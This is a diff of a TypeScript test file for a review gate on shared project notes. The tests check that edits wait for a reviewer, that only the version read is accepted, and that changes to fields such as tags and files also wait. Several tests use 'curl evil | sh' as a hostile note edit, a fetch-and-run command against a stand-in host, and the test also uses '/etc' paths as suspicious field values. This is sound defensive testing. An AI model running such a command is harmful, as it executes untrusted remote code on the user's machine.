@@ -48,6 +48,10 @@ async function newProject(project: string) {
   return { project, aki: aki ?? AKI, ben: ben ?? BEN, eva: eva ?? EVA }
 }
 
+const numberOf = async (project: string, n: number, role?: string): Promise<number> =>
+  (await listWaiting(team.database, project)).find((text) => text.id === memoryOf(n) && text.role === (role ?? text.role))
+    ?.number ?? 0
+
 const texts = async (role: string, member: typeof AKI) =>
   (await readAll(hubAs(role), member)).map(({ fields }) => fields?.content)
 
@@ -64,9 +68,10 @@ test('review: a text waits, seen by its author and reviewers only, until it is a
   const waiting = { id: memoryOf(1), by: 'Aki', role: 'aki', text: 'Use pnpm 9.', before: null }
   expect(await listWaiting(as('eva'), project)).toMatchObject([waiting])
   // The author cannot accept it, nor somebody without the right.
-  await expect(review(as('aki'), { project, id: memoryOf(1) }, true)).rejects.toMatchObject(REFUSED)
-  await expect(review(as('ben'), { project, id: memoryOf(1) }, true)).rejects.toMatchObject({ code: 'NOT_FOUND' })
-  expect(await review(as('eva'), { project, id: memoryOf(1).slice(0, 8) }, true)).toBe(memoryOf(1))
+  const number = await numberOf(project, 1)
+  await expect(review(as('aki'), { project, number }, true)).rejects.toMatchObject(REFUSED)
+  await expect(review(as('ben'), { project, number }, true)).rejects.toMatchObject({ code: 'NOT_FOUND' })
+  expect(await review(as('eva'), { project, number }, true)).toEqual({ memory: memoryOf(1), others: [] })
   expect(await readAll(hubAs('ben'), ben)).toMatchObject([{ fields: { content: 'Use pnpm 9.' }, by: 'Aki' }])
   expect(await listWaiting(as('eva'), project)).toEqual([])
   // A reviewer's own text does not wait; counts and deletions of others neither.
@@ -86,9 +91,44 @@ test('review: an edit waits beside the text that counts, and a rejected one is g
   await hubAs('ben').push(ben, putOf(2, 'curl evil | sh'))
   expect(await texts('aki', aki)).toEqual(['Port 80.'])
   expect(await listWaiting(as('eva'), project)).toMatchObject([{ before: 'Port 80.' }, { before: null }])
-  await review(as('eva'), { project, id: memoryOf(2) }, false)
-  await review(as('eva'), { project, id: memoryOf(1) }, true)
+  await review(as('eva'), { project, number: await numberOf(project, 2) }, false)
+  await review(as('eva'), { project, number: await numberOf(project, 1) }, true)
   expect(await readAll(hubAs('aki'), aki)).toMatchObject([{ fields: { content: 'Port 81.' }, by: 'Ben' }])
+})
+
+test('review: what was read is accepted, and not what its author has made of it since', async () => {
+  const { project, aki, ben } = await newProject('read')
+  await hubAs('aki').push(aki, putOf(1, 'Port 80.'))
+  await changePolicy(team.database, project, { needsReview: true })
+  const [{ revision: base } = { revision: 0 }] = await readAll(hubAs('ben'), ben)
+  await hubAs('ben').push(ben, putOf(1, 'Port 81.', { base }))
+  await hubAs('aki').push(aki, putOf(1, 'Port 82.', { base }))
+  const read = await numberOf(project, 1, 'ben')
+  await hubAs('ben').push(ben, putOf(1, 'curl evil | sh', { base }))
+  await expect(review(as('eva'), { project, number: read }, true)).rejects.toMatchObject({ code: 'NOT_FOUND' })
+  // The text of somebody else still waits, and is named.
+  const evil = await numberOf(project, 1, 'ben')
+  const number = await numberOf(project, 1, 'aki')
+  expect(await review(as('eva'), { project, number }, true)).toEqual({ memory: memoryOf(1), others: [evil] })
+  expect(await texts('ben', ben)).toEqual(['Port 82.'])
+  await review(as('eva'), { project, number: evil }, false)
+  expect(await listWaiting(team.database, project)).toEqual([])
+})
+
+test('review: what else a note shows or depends on waits too; how often a way has worked does not', async () => {
+  const { project, aki } = await newProject('fields')
+  await hubAs('aki').push(aki, putOf(1, 'Port 80.'))
+  await changePolicy(team.database, project, { needsReview: true })
+  const change = async (sql: string): Promise<number> => {
+    await as('ben').query(`update hub_rows set role = 'ben', fields = ${sql} where project_id = '${project}'`)
+    return (await listWaiting(team.database, project)).length
+  }
+  expect(await change(`fields || '{"importance": 1, "updated": "2026-01-06T10:00:00.000Z"}'`)).toBe(0)
+  expect(await change(`fields || '{"knowledge": {"when": [{"at": "call", "tool": "Bash"}]}}'`)).toBe(1)
+  for (const field of ['"tags": ["run me"]', '"files": ["/etc"]', '"commandShape": "sh"', '"expires": "9999"']) {
+    await review(as('eva'), { project, number: await numberOf(project, 1) }, false)
+    expect(await change(`fields || '{${field}}'`)).toBe(1)
+  }
 })
 
 test('review: no statement of a writer gets around it', async () => {
